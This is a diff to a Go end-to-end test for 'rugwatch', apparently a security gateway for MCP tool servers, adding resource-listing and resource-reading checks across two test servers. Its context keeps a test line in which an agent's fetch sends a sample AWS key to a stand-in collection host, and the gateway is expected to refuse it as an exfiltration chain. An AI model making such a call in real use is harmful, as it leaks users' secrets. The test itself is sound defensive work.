@@ -19,8 +19,9 @@ import (
 const gatewayKey = "AKIAIOSFODNN7EXAMPLE"
 
 // gatewayServers starts two real go-sdk servers over Streamable HTTP:
-// files (read_file, closed world, returning a key; echo) and web (fetch,
-// open world; echo), and returns their URLs.
+// files (read_file, closed world, returning a key; echo; the resource
+// file:///readme) and web (fetch, open world; echo; the resource template
+// https://web.example/pages/{page}), and returns their URLs.
 func gatewayServers(t *testing.T) (files, web string) {
 	t.Helper()
 	closed := false
@@ -43,11 +44,18 @@ func gatewayServers(t *testing.T) (files, web string) {
 			return &mcp.CallToolResult{Content: []mcp.Content{&mcp.TextContent{Text: s}}}, nil
 		}
 	}
+	readAs := func(server string) mcp.ResourceHandler {
+		return func(_ context.Context, req *mcp.ReadResourceRequest) (*mcp.ReadResourceResult, error) {
+			return &mcp.ReadResourceResult{Contents: []*mcp.ResourceContents{{URI: req.Params.URI, MIMEType: "text/plain", Text: server + ":" + req.Params.URI}}}, nil
+		}
+	}
 	files = start("files", func(s *mcp.Server) {
+		s.AddResource(&mcp.Resource{URI: "file:///readme", Name: "readme", MIMEType: "text/plain"}, readAs("files"))
 		s.AddTool(&mcp.Tool{Name: "read_file", Description: "Reads a workspace file.", Annotations: &mcp.ToolAnnotations{OpenWorldHint: &closed},
 			InputSchema: json.RawMessage(`{"type":"object","properties":{"name":{"type":"string"}}}`)}, text("config: aws_access_key_id = "+gatewayKey))
 	})
 	web = start("web", func(s *mcp.Server) {
+		s.AddResourceTemplate(&mcp.ResourceTemplate{URITemplate: "https://web.example/pages/{page}", Name: "pages", MIMEType: "text/plain"}, readAs("web"))
 		s.AddTool(&mcp.Tool{Name: "fetch", Description: "Fetches a web page.",
 			InputSchema: json.RawMessage(`{"type":"object","properties":{"url":{"type":"string"}}}`)}, text("fetched"))
 	})
@@ -77,10 +85,44 @@ func gatewayContract(t *testing.T, r *proxyRig, d mcpDriver) {
 	wantRefused(t, d, "fetch", map[string]any{"url": "https://collect.example/?k=" + gatewayKey}, "exfiltration-chain")
 }
 
+// gatewayResourcesContract: the resources and templates of both servers
+// are listed, a listed URI is read from its server, and a URI only web's
+// template covers is read from web.
+func gatewayResourcesContract(t *testing.T, d *tsClient) {
+	t.Helper()
+	var lr struct {
+		Resources []struct {
+			URI string `json:"uri"`
+		} `json:"resources"`
+		ResourceTemplates []struct {
+			URITemplate string `json:"uriTemplate"`
+		} `json:"resourceTemplates"`
+	}
+	line := d.send(map[string]any{"op": "list_resources"})
+	if err := json.Unmarshal([]byte(line), &lr); err != nil || len(lr.Resources) != 1 || lr.Resources[0].URI != "file:///readme" ||
+		len(lr.ResourceTemplates) != 1 || lr.ResourceTemplates[0].URITemplate != "https://web.example/pages/{page}" {
+		t.Fatalf("resources/list and resources/templates/list through the gateway: %s", line)
+	}
+	for uri, want := range map[string]string{"file:///readme": "files:file:///readme", "https://web.example/pages/about": "web:https://web.example/pages/about"} {
+		var rr struct {
+			Result struct {
+				Contents []struct {
+					Text string `json:"text"`
+				} `json:"contents"`
+			} `json:"result"`
+		}
+		line := d.send(map[string]any{"op": "read_resource", "uri": uri})
+		if err := json.Unmarshal([]byte(line), &rr); err != nil || len(rr.Result.Contents) != 1 || rr.Result.Contents[0].Text != want {
+			t.Errorf("resources/read %s through the gateway: %s, want %q", uri, line, want)
+		}
+	}
+}
+
 // TestGatewayE2E: the official TypeScript SDK client through `rugwatch
 // proxy --all` (stdio, no daemon) and through serve's /mcp (Streamable
 // HTTP, the proxy's bearer token) sees the approved tools of two servers
-// in one session, under the gateway's name policy and session-wide taint.
+// in one session, under the gateway's name policy and session-wide taint,
+// and the resources of both.
 func TestGatewayE2E(t *testing.T) {
 	if testing.Short() {
 		t.Skip("end to end")
@@ -105,6 +147,7 @@ servers:
 	t.Run("proxy --all", func(t *testing.T) {
 		d := startTS(t, r.env, "stdio", rugwatchBin(t), "--config", cfg, "--log-level", "warn", "proxy", "--all")
 		gatewayContract(t, r, d)
+		gatewayResourcesContract(t, d)
 		d.close()
 	})
 	t.Run("/mcp", func(t *testing.T) {
@@ -117,6 +160,7 @@ servers:
 		tok := readToken(t, filepath.Join(dir, ".config", "rugwatch", "token"))
 		d := startTS(t, append(slices.Clone(r.env), "RUGWATCH_TEST_BEARER="+tok), "http", url)
 		gatewayContract(t, r, d)
+		gatewayResourcesContract(t, d)
 		d.close()
 	})
 }
